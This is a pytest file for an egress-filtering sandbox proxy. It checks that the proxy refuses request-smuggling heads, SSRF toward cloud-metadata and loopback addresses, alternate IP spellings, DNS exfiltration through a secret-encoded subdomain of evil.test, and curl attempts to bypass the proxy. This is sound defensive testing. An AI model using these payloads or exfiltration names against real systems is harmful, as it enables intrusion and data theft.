    ("CONNECT two ports", "CONNECT allowed.test:443:1 HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
     400, "request-target authority: invalid port"),
    ("CONNECT port 0443", "CONNECT allowed.test:0443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
     400, "request-target authority: invalid port"),
    ("CONNECT without port", "CONNECT allowed.test HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
     400, "request-target authority: missing port"),
    ("CONNECT with a body", "CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n"
     "Content-Length: 5\r\n\r\nhello", 400, "CONNECT request with content"),
    ("percent in host", "GET http://allowed%2etest/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
     400, "request-target authority: percent-encoded host refused"),
    ("zone id", "GET http://[fe80::1%25eth0]/ HTTP/1.1\r\nHost: x\r\n\r\n", 400,
     "request-target authority: IPv6 zone identifier refused"),
    ("origin form", "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", 400,
     "not a proxy request"),
    ("https absolute", "GET https://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
     400, "absolute-form https:// target refused"),
    ("h2c upgrade", "GET %s/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\n"
     "Upgrade: h2c\r\n\r\n" % A, 400, "allowed.test:80: h2c upgrades are refused"),
    ("HTTP/2.0", "GET %s/ HTTP/2.0\r\nHost: allowed.test\r\n\r\n" % A, 505,
     "HTTP version not supported"),
    ("NUL in value", "GET %s/ HTTP/1.1\r\nHost: allowed.test\r\nX: a\x00b\r\n\r\n" % A, 400,
     "control byte in field value"),
    ("invalid punycode", "CONNECT xn--zz.test:443 HTTP/1.1\r\nHost: xn--zz.test:443\r\n\r\n",
     400, "invalid internationalised host name"),
]


def test_malformed_heads_are_refused_and_never_forwarded(net):
    """T12 (smuggling), T14 (authority confusion), T15 (non-canonical port):
    each answered 400, 501 or 505 with X-Proxy-Error: bad-request, never
    resolved, never forwarded, and the connection closed."""
    s = net.settings(allow=["allowed.test", "*.allowed.test"])
    res = net.probe(s, raw_http([raw for _, raw, _, _ in MALFORMED]))
    bad = []
    for (name, _, status, why), [r] in zip(MALFORMED, res):
        if r.get("status") != status or header(r, "X-Proxy-Error") != "bad-request" or \
                not r.get("body", "").startswith("cordon: " + why) or r.get("timed_out") or \
                header(r, "Connection") != "close":
            bad.append((name, status, why, r))
    assert not bad, "\n".join(repr(b) for b in bad)
    nothing_reached(net)
    assert net.audit("net.connect") == []


# ---------------------------------------------------------------------------
# CONNECT and SOCKS5

def test_connect_tunnel_to_https_origin(net):
    s = net.settings(allow=["allowed.test", "www.allowed.test"])
    net.put("ca.pem", net.lab.ca_pem)
    res = net.probe(s, [
        {"op": "tunnel", "authority": "allowed.test:443",
         "tls": {"sni": "allowed.test", "cafile": "ca.pem", "path": "/tls"}},
        {"op": "tunnel", "authority": "www.allowed.test:443",
         "tls": {"sni": "www.allowed.test", "cafile": "ca.pem", "path": "/www"}},
    ])
    for r, p in zip(res, ("/tls", "/www")):
        assert r["line"] == "HTTP/1.1 200 Connection established", r
        ok(r["response"], "hello from https GET %s\n" % p)
    assert [e["sni"] for e in net.events(srv="https", ev="tls")] == ["allowed.test",
                                                                      "www.allowed.test"]
    for host in ("allowed.test", "www.allowed.test"):
        c = one(net.audit("net.connect"), host=host)
        assert (c["verdict"], c["port"], c["via"], c["address"]) == ("allow", 443, "connect",
                                                                     PUBLIC4)
        cl = one(net.audit("net.close"), host=host)
        assert cl["via"] == "connect" and cl["bytes_up"] > 0 and cl["bytes_down"] > 0
    assert net.audit("net.request") == []  # opaque tunnels have no request records


def test_connect_to_an_arbitrary_port_relays_raw_bytes(net):
    from egress_lab import det_bytes, sha256
    ep, n = net.ports["echo"], 3 << 20
    s = net.settings(allow=["allowed.test:%d" % ep])
    res = net.probe(s, [
        {"op": "tunnel", "authority": "allowed.test:%d" % ep, "send": "SSH-2.0-OpenSSH_9.2\r\n"},
        {"op": "tunnel", "authority": "allowed.test:%d" % ep, "send_gen": n}])
    assert res[0]["status"] == 200 and res[0]["data"] == "SSH-2.0-OpenSSH_9.2\r\n", res[0]
    assert res[1]["status"] == 200, res[1]
    assert (res[1]["data_len"], res[1]["data_sha256"]) == (n, sha256(det_bytes(n)))
    eofs = [e for e in net.echo(ep) if e["ev"] == "eof"]
    assert sorted(e["bytes"] for e in eofs) == [21, n]
    assert sorted((c["bytes_up"], c["bytes_down"]) for c in net.audit("net.close")) == \
        [(21, 21), (n, n)]


def test_socks5_by_name_and_by_address(net):
    """T19: SOCKS5 with a name (ATYP 3) is judged as that name; an address
    (ATYP 1 or 4) is judged as an address, never as the name it came from."""
    hp = net.ports["http_alt"]
    s = net.settings(allow=["allowed.test", "198.51.100.10:%d" % hp,
                            "[2001:db8::10]:%d" % hp])
    req = "GET /%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
    res = net.probe(s, [
        {"op": "socks", "atyp": 3, "host": "allowed.test", "port": 80, "send": req % "name",
         "read": "http"},
        {"op": "socks", "atyp": 1, "host": PUBLIC4, "port": hp, "send": req % "v4",
         "read": "http"},
        {"op": "socks", "atyp": 4, "host": "2001:db8::10", "port": hp, "send": req % "v6",
         "read": "http"},
        {"op": "socks", "atyp": 1, "host": PUBLIC4, "port": 80},
        {"op": "socks", "atyp": 4, "host": "2001:db8::10", "port": 443},
        {"op": "socks", "atyp": 1, "host": "127.0.0.1", "port": 80},
    ])
    for r, p in zip(res[:3], ("name", "v4", "v6")):
        assert r["method"] == "0500" and r["rep"] == 0, r
        ok(r["response"], "hello from http GET /%s\n" % p)
    assert [r["rep"] for r in res[3:]] == [2, 2, 2]
    assert [(e["local"], e["port"]) for e in net.events(srv="http", ev="accept")] == \
        [(PUBLIC4, 80), (PUBLIC4, hp), ("2001:db8::10", hp)]
    a = net.audit("net.connect")
    assert one(a, host="allowed.test", via="socks")["rule"] == "allowed.test"
    assert one(a, host=PUBLIC4, port=hp)["rule"] == "198.51.100.10:%d" % hp
    assert one(a, host="2001:db8::10", port=hp)["rule"] == "[2001:db8::10]:%d" % hp
    deny_record(net, PUBLIC4, 80, "socks", BAD_PORT)
    deny_record(net, "2001:db8::10", 443, "socks", BAD_PORT)
    deny_record(net, "127.0.0.1", 80, "socks", NOT_LISTED)
    assert [c["via"] for c in net.audit("net.close")] == ["socks"] * 3
    assert {n for n, _ in net.dns()} == {"allowed.test"}


def test_socks5_name_only_allowlist_refuses_the_address(net):
    """T19 as in the attack list: `curl --socks5` (the client resolves, ATYP
    1) fails for a name-only allow list; `--socks5-hostname` works."""
    s = net.settings(allow=["allowed.test"])
    res = net.probe(s, [
        {"op": "socks", "atyp": 1, "host": PUBLIC4, "port": 80},
        {"op": "socks", "atyp": 3, "host": "allowed.test", "port": 80,
         "send": "GET /h HTTP/1.1\r\nHost: allowed.test\r\n\r\n", "read": "http"}])
    assert res[0]["rep"] == 2
    ok(res[1]["response"])
    deny_record(net, PUBLIC4, 80, "socks", NOT_LISTED)
    assert len(net.events(srv="http", ev="accept")) == 1


def test_socks5_protocol_refusals(net):
    """RFC 1928: BIND and UDP ASSOCIATE get 7, an unknown address type 8,
    a greeting without "no authentication" 0xff."""
    s = net.settings(allow=["allowed.test"])
    script = r'''
import socket, json
def x(greet, req):
    s = socket.create_connection(("127.0.0.1", 1080), timeout=20)
    s.sendall(greet)
    m = s.recv(2)
    out = [m.hex()]
    if req is not None and m == b"\x05\x00":
        s.sendall(req)
        out.append(s.recv(10).hex())
    s.close()
    return out
name = b"\x0callowed.test\x00\x50"
print(json.dumps([
    x(b"\x05\x01\x00", b"\x05\x02\x00\x03" + name),
    x(b"\x05\x01\x00", b"\x05\x03\x00\x03" + name),
    x(b"\x05\x01\x00", b"\x05\x01\x00\x05" + name),
    x(b"\x05\x01\x02", None),
]))
'''
    p = net.run(s, "/usr/bin/python3", "-c", script)
    assert p.returncode == 0, p.stderr
    res = json.loads(p.stdout)
    assert res[0] == ["0500", "05070001000000000000"]
    assert res[1] == ["0500", "05070001000000000000"]
    assert res[2] == ["0500", "05080001000000000000"]
    assert res[3] == ["05ff"]
    nothing_reached(net)


# ---------------------------------------------------------------------------
# the resolved-address guard (issue 6)

GUARD = [
    # name (in the lab's DNS), resolved address, reason class
    ("loop.test", "127.0.0.1", "a loopback address"),
    ("loop6.test", "::1", "a loopback address"),
    ("meta.test", "169.254.169.254", "a cloud metadata address"),
    ("alibaba.test", "100.100.100.200", "a cloud metadata address"),
    ("ec2v6.test", "fd00:ec2::254", "a cloud metadata address"),
    ("mapped.test", "::ffff:169.254.169.254", "a cloud metadata address"),
    ("nat64.test", "64:ff9b::a9fe:a9fe", "a cloud metadata address"),
    ("sixtofour.test", "2002:a9fe:a9fe::1", "a cloud metadata address"),
    ("teredo.test", "2001:0:102:304::5601:5601", "a cloud metadata address"),
    ("linklocal.test", "169.254.1.1", "a link-local address"),
    ("linklocal6.test", "fe80::1", "a link-local address"),
    ("zero.test", "0.0.0.0", "an unspecified address"),
    ("mcast.test", "224.0.0.1", "a multicast address"),
    ("bcast.test", "255.255.255.255", "a reserved or broadcast address"),
    ("private.test", "10.1.2.3", "a private address (RFC 1918)"),
    ("rfc1918b.test", "172.16.5.4", "a private address (RFC 1918)"),
    ("rfc1918c.test", "192.168.1.1", "a private address (RFC 1918)"),
    ("cgnat.test", "100.64.1.2", "a shared address (CGNAT, RFC 6598)"),
    ("ula.test", "fd12:3456::1", "a unique local address (ULA)"),
    ("own.test", OWN4, "an address of this host"),
]


def test_guard_refuses_names_that_resolve_to_special_addresses(net):
    """Issue 6: an allowed name is resolved (the DNS server sees it), then
    refused for the class of the address it resolved to; nothing is dialled."""
    names = [g[0] for g in GUARD]
    s = net.settings(allow=names)
    res = net.probe(s, [{"op": "http", "reqs": [get("http://%s/" % n)]} for n in names])
    recs = net.audit("net.connect")
    bad = []
    for (name, addr, why), [r] in zip(GUARD, res):
        reason = "%s resolves to %s" % (name, why)
        rec = find(recs, host=name)
        if r.get("status") != 403 or header(r, "X-Proxy-Error") != "blocked-address" or \
                r.get("body") != denied_body(name, 80, reason) or len(rec) != 1 or \
                rec[0]["verdict"] != "deny" or rec[0].get("reason") != reason or \
                rec[0].get("address") != addr or rec[0].get("rule") != name:
            bad.append((name, r, rec))
    assert not bad, "\n".join(repr(b) for b in bad)
    asked = {n for n, _ in net.dns()}
    assert asked == set(names)
    assert net.origin() == [] and net.echo() == []


def test_guard_names_the_ecs_metadata_address(net):
    s = net.settings(allow=["ecs.test"])
    [[r]] = net.probe(s, [{"op": "http", "reqs": [get("http://ecs.test/")]}])
    assert r["body"] == denied_body("ecs.test", 80, "ecs.test resolves to a cloud metadata "
                                                    "address")


def test_guard_applies_to_connect_and_socks_and_wildcards(net):
    """T6: an attacker-controlled subdomain under an allowed wildcard points
    at metadata or a private address: the DNS server is asked, the origin
    sees nothing."""
    s = net.settings(allow=["*.allowed.test"])
    res = net.probe(s, [
        {"op": "http", "reqs": [get("http://metadata.allowed.test/latest/meta-data/")]},
        {"op": "tunnel", "authority": "metadata.allowed.test:443"},
        {"op": "socks", "atyp": 3, "host": "metadata.allowed.test", "port": 80},
        {"op": "http", "reqs": [get("http://internal.allowed.test/")]},
        {"op": "tunnel", "authority": "internal.allowed.test:443"},
    ])
    meta = "metadata.allowed.test resolves to a cloud metadata address"
    internal = "internal.allowed.test resolves to a private address (RFC 1918)"
    refused_http(res[0][0], "metadata.allowed.test", 80, "blocked-address", meta)
    refused_connect(res[1], "metadata.allowed.test", 443, "blocked-address", meta)
    assert res[2]["rep"] == 2
    refused_http(res[3][0], "internal.allowed.test", 80, "blocked-address", internal)
    refused_connect(res[4], "internal.allowed.test", 443, "blocked-address", internal)
    for port, via in ((80, "http"), (443, "connect"), (80, "socks")):
        deny_record(net, "metadata.allowed.test", port, via, meta, rule="*.allowed.test",
                    address="169.254.169.254")
    deny_record(net, "internal.allowed.test", 443, "connect", internal, rule="*.allowed.test",
                address="10.1.2.3")
    assert {n for n, _ in net.dns()} == {"metadata.allowed.test", "internal.allowed.test"}
    assert net.origin() == []


def test_guard_dials_only_the_good_address_of_a_mixed_answer(net):
    """mixed.test has 127.0.0.1 and 198.51.100.10: the loopback one is
    dropped, the other dialled."""
    s = net.settings(allow=["mixed.test"])
    [[r]] = net.probe(s, [{"op": "http", "reqs": [get("http://mixed.test/m")]}])
    ok(r, "hello from http GET /m\n")
    assert [e["local"] for e in net.events(srv="http", ev="accept")] == [PUBLIC4]
    assert one(net.audit("net.connect"), host="mixed.test")["address"] == PUBLIC4


def test_ip_literal_entry_exempts_a_name_on_that_port(net):
    """srt's exemption: "127.0.0.1:PORT" in the allow list lets a name that
    resolves to 127.0.0.1 through on that port, and only on that port."""
    hp = net.ports["http_alt"]
    s = net.settings(allow=["loop.test", "loop.test:%d" % hp, "127.0.0.1:%d" % hp])
    res = net.probe(s, [{"op": "http", "reqs": [get("http://loop.test:%d/ok" % hp)]},
                        {"op": "http", "reqs": [get("http://loop.test/no")]}])
    ok(res[0][0], "hello from http GET /ok\n")
    refused_http(res[1][0], "loop.test", 80, "blocked-address",
                 "loop.test resolves to a loopback address")
    [acc] = net.events(srv="http", ev="accept")
    assert (acc["local"], acc["port"]) == ("127.0.0.1", hp)
    c = one(net.audit("net.connect"), host="loop.test", port=hp)
    assert (c["verdict"], c["address"], c["rule"]) == ("allow", "127.0.0.1", "loop.test:%d" % hp)


def test_network_hosts_are_used_instead_of_dns_and_still_guarded(net):
    hp = net.ports["http_alt"]
    s = net.settings(allow=["static.test", "static-loop.test", "static-loop.test:%d" % hp,
                            "127.0.0.1:%d" % hp],
                     hosts={"static.test": PUBLIC4, "static-loop.test": "127.0.0.1"})
    res = net.probe(s, [{"op": "http", "reqs": [get("http://static.test/s")]},
                        {"op": "http", "reqs": [get("http://static-loop.test/")]},
                        {"op": "http", "reqs": [get("http://static-loop.test:%d/l" % hp)]}])
    ok(res[0][0], "hello from http GET /s\n")
    refused_http(res[1][0], "static-loop.test", 80, "blocked-address",
                 "static-loop.test resolves to a loopback address")
    ok(res[2][0], "hello from http GET /l\n")
    assert net.dns() == []
    assert [(e["local"], e["port"]) for e in net.events(srv="http", ev="accept")] == \
        [(PUBLIC4, 80), ("127.0.0.1", hp)]


def test_allow_private_addresses_passes_the_guard_but_not_for_metadata(net):
    """network.allowPrivateAddresses lets RFC 1918, CGNAT and ULA answers
    through the guard; the dial then fails (no route in the lab, so no packet
    leaves): 502 with the connect error. Loopback, metadata and link-local
    stay refused."""
    names = ["private.test", "internal.allowed.test", "cgnat.test", "ula.test", "meta.test",
             "loop.test", "linklocal.test"]
    s = net.settings(allow=names, private=True)
    res = net.probe(s, [{"op": "http", "reqs": [get("http://%s/" % n)]} for n in names])
    unreachable = "cannot connect: Network is unreachable"
    for name, addr, [r] in zip(names[:4], ("10.1.2.3", "10.1.2.3", "100.64.1.2",
                                           "fd12:3456::1"), res[:4]):
        assert r["status"] == 502 and header(r, "X-Proxy-Error") == "connect-failed", r
        assert r["body"] == denied_body(name, 80, unreachable)
        c = one(net.audit("net.connect"), host=name)
        assert (c["verdict"], c["address"], c["reason"]) == ("allow", addr, unreachable)
    for name, why, [r] in zip(names[4:], ("a cloud metadata address", "a loopback address",
                                         "a link-local address"), res[4:]):
        refused_http(r, name, 80, "blocked-address", "%s resolves to %s" % (name, why))
    assert net.origin() == []


def test_unresolvable_name_is_a_502(net):
    s = net.settings(allow=["nosuch.test"])
    [[r]] = net.probe(s, [{"op": "http", "reqs": [get("http://nosuch.test/")]}])
    assert r["status"] == 502 and header(r, "X-Proxy-Error") == "dns-failure", r
    assert r["body"].startswith("cordon: nosuch.test:80: cannot resolve the host: ")
    c = one(net.audit("net.connect"), host="nosuch.test")
    assert c["verdict"] == "allow" and c["reason"].startswith("cannot resolve the host: ")
    assert ("nosuch.test", "A") in net.dns()


# ---------------------------------------------------------------------------
# literal addresses (T4, T5, T7) and what never reaches DNS (T20, T28)

def test_connect_to_an_address_of_an_allowed_name_is_refused(net):
    """T4: allowing a name does not allow its address, nor loopback."""
    s = net.settings(allow=["allowed.test"])
    res = net.probe(s, [{"op": "tunnel", "authority": a} for a in
                        ("127.0.0.1:443", "[::1]:443", "%s:443" % PUBLIC4,
                         "[2001:db8::10]:443")])
    for r, (host, port) in zip(res, (("127.0.0.1", 443), ("::1", 443), (PUBLIC4, 443),
                                     ("2001:db8::10", 443))):
        refused_connect(r, host, port, "blocked-by-allowlist", NOT_LISTED)
        deny_record(net, host, port, "connect", NOT_LISTED)
    nothing_reached(net)


SPELLINGS = ["2130706433", "0x7f.1", "0177.0.0.1", "127.1", "0x7f000001", "127.0.1"]


def test_alternate_ipv4_spellings_are_judged_as_127_0_0_1(net):
    """T5: every inet_aton spelling is the address it names: refused under a
    name-only list, reached (as 127.0.0.1, Host rewritten) when
    127.0.0.1:PORT is allowed."""
    hp = net.ports["http_alt"]
    s = net.settings(allow=["allowed.test"])
    res = net.probe(s, [{"op": "http", "reqs": [get("http://%s:%d/" % (h, hp))]}
                        for h in SPELLINGS])
    for [r] in res:
        refused_http(r, "127.0.0.1", hp, "blocked-by-allowlist", NOT_LISTED)
    assert [r["host"] for r in net.audit("net.connect")] == ["127.0.0.1"] * len(SPELLINGS)
    nothing_reached(net)

    net.reset()
    s = net.settings(allow=["127.0.0.1:%d" % hp])
    res = net.probe(s, [{"op": "http", "reqs": [get("http://%s:%d/host" % (h, hp))]}
                        for h in SPELLINGS])
    for [r] in res:
        ok(r, "127.0.0.1:%d" % hp)
    assert {(e["local"], e["port"]) for e in net.events(srv="http", ev="accept")} == \
        {("127.0.0.1", hp)}
    assert all(c["rule"] == "127.0.0.1:%d" % hp for c in net.audit("net.connect"))
    assert net.dns() == []


def test_metadata_and_embedded_ipv4_literals_are_refused(net):
    """T7: metadata and loopback as literals, including the IPv4-mapped,
    NAT64 and EC2 IPv6 forms, as CONNECT targets and absolute URIs."""
    s = net.settings(allow=["allowed.test", "*.allowed.test"])
    targets = [("169.254.169.254:80", "169.254.169.254", 80),
               ("[fd00:ec2::254]:443", "fd00:ec2::254", 443),
               ("[::ffff:169.254.169.254]:443", "169.254.169.254", 443),
               ("[64:ff9b::a9fe:a9fe]:443", "64:ff9b::a9fe:a9fe", 443),
               ("[::ffff:127.0.0.1]:443", "127.0.0.1", 443)]
    urls = [("http://169.254.169.254/latest/", "169.254.169.254"),
            ("http://[::ffff:169.254.169.254]/", "169.254.169.254"),
            ("http://[::ffff:a9fe:a9fe]/", "169.254.169.254"),
            ("http://[fd00:ec2::254]/", "fd00:ec2::254"),
            ("http://[64:ff9b::a9fe:a9fe]/", "64:ff9b::a9fe:a9fe")]
    res = net.probe(s, [{"op": "tunnel", "authority": a} for a, _, _ in targets] +
                    [{"op": "http", "reqs": [get(u)]} for u, _ in urls])
    for r, (_, host, port) in zip(res, targets):
        refused_connect(r, host, port, "blocked-by-allowlist", NOT_LISTED)
    for [r], (_, host) in zip(res[len(targets):], urls):
        refused_http(r, host, 80, "blocked-by-allowlist", NOT_LISTED)
    assert all(c["verdict"] == "deny" and "address" not in c
               for c in net.audit("net.connect"))
    nothing_reached(net)


def test_denied_names_and_ports_cause_no_dns_query_and_no_dial(net):
    """T20 and T28: a denied name, a denied port, a secret-bearing name: the
    DNS server never hears of them, no listener sees a connection. An allowed
    IP literal is dialled without any query (no PTR)."""
    secret = "c2VjcmV0LXRva2VuLTEyMzQ"
    s = net.settings(allow=["allowed.test", "198.51.100.20"], deny=["*.evil.test"])
    res = net.probe(s, [
        {"op": "tunnel", "authority": "%s.evil.test:443" % secret.lower()},
        {"op": "tunnel", "authority": "%s.unlisted.test:8443" % secret.lower()},
        {"op": "http", "reqs": [get("http://%s.evil.test/" % secret.lower())]},
        {"op": "socks", "atyp": 3, "host": "%s.evil.test" % secret.lower(), "port": 53},
        {"op": "tunnel", "authority": "allowed.test:22"},
        {"op": "tunnel", "authority": "allowed.test:%d" % net.ports["echo"]},
        {"op": "http", "reqs": [get("http://198.51.100.20/ptr")]},
        {"op": "http", "reqs": [get("http://1.2.3.4/")]},
    ])
    assert [res[0]["status"], res[1]["status"], res[2][0]["status"], res[3]["rep"],
            res[4]["status"], res[5]["status"]] == [403, 403, 403, 2, 403, 403], res
    ok(res[6][0], "hello from http GET /ptr\n")
    refused_http(res[7][0], "1.2.3.4", 80, "blocked-by-allowlist", NOT_LISTED)
    assert net.dns() == [], net.dns()
    assert [(e["local"], e["port"]) for e in net.origin() if e["ev"] == "accept"] == \
        [("198.51.100.20", 80)]
    assert net.echo() == []
    assert len(find(net.audit("net.connect"), verdict="deny")) == 7


# ---------------------------------------------------------------------------
# connections that ignore the proxy

@pytest.mark.parametrize("transparent", [True, False], ids=["capture", "no-capture"])
def test_direct_connections_fail_inside_the_sandbox(net, transparent):
    """The sandbox's loopback is its own (nothing listens there but cordon's
    listeners, and transparent capture leaves it alone). Elsewhere: with
    capture (the default) an address no IP entry allows has an unreachable
    route; without it there is no route at all."""
    hp = net.ports["http_alt"]
    s = net.settings(allow=["allowed.test", "127.0.0.1:%d" % hp],
                     extra={"transparent": transparent})
    res = net.probe(s, [
        {"op": "connect", "host": "127.0.0.1", "port": hp},
        {"op": "connect", "host": "::1", "port": hp},
        {"op": "connect", "host": PUBLIC4, "port": 80},
        {"op": "connect", "host": "2001:db8::10", "port": 80},
        {"op": "connect", "host": "10.1.2.3", "port": 80},
        {"op": "connect", "host": "127.0.0.1", "port": 3128},
        {"op": "connect", "host": "127.0.0.1", "port": 1080},
    ])
    unreach = "EHOSTUNREACH" if transparent else "ENETUNREACH"
    assert res == ["ECONNREFUSED", "ECONNREFUSED", unreach, unreach, unreach, "OK", "OK"]
    nothing_reached(net)

    # curl with the proxy turned off: refused on the sandbox's loopback,
    # unreachable elsewhere; without --noproxy, NO_PROXY sends 127.0.0.1
    # direct too. Through the proxy (--noproxy '') it is allowed and reached.
    p = net.sh(s, "curl -sS -v --noproxy '*' -o /dev/null http://127.0.0.1:%d/ 2>&1; "
                  "echo \"rc=$?\"; "
                  "curl -sS -v -o /dev/null http://127.0.0.1:%d/ 2>&1; echo \"rc=$?\"; "
                  "curl -sS -v --noproxy '*' -o /dev/null http://%s/ 2>&1; echo \"rc=$?\"; "
                  "curl -sS --noproxy '' http://127.0.0.1:%d/via-proxy; echo \"rc=$?\""
               % (hp, hp, PUBLIC4, hp))
    runs = p.stdout.split("rc=")
    assert "connect to 127.0.0.1 port %d failed: Connection refused" % hp in runs[0], p.stdout
    assert "connect to 127.0.0.1 port %d failed: Connection refused" % hp in runs[1], p.stdout
    assert "Immediate connect fail for %s: %s" % (
        PUBLIC4, "No route to host" if transparent else "Network is unreachable") in runs[2], \
        p.stdout
    assert [r[:2] for r in runs[1:4]] == ["7\n"] * 3, p.stdout
    assert runs[3].endswith("hello from http GET /via-proxy\n") and runs[4] == "0\n", p.stdout
    assert [r["line"] for r in net.requests()] == ["GET /via-proxy HTTP/1.1"]
